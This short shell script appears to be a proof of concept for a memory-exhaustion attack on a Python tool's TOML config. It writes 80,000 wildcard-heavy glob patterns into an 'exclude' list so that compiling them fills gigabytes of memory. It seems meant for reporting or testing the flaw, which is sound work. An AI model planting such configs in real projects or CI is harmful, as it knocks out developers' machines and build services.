# The attacker wants memory to be filled by the patterns of the settings: compiled, 13 MB of them take 7 GB.
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
part=$(yes 'a*b*c*d*e*f*g*h*' | head -n 10 | tr -d '\n')
{ printf 'exclude = [\n'; yes "$part" | head -n 80000 | awk '{ printf "\"*%s%d\",\n", $0, NR }'; printf ']\n'; } > loopmend.toml
